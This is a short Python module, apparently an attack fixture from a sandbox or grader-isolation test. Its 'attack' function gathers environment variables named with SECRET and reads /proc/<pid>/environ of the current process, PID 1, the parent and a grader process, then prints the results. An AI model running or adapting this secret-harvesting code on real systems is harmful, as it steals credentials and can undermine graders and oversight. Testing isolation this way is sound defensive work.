"""Secrets in the environment of this process and of others."""
# layers: yes
import os
def attack(name, args, keywords):
    found = [value for name, value in os.environ.items() if "SECRET" in name]
    for pid in ("self", "1", str(os.getppid()), "@GRADER@"):
        try:
            found.append(open(f"/proc/{pid}/environ").read())
        except OSError:
            continue
    print(found)
    return found
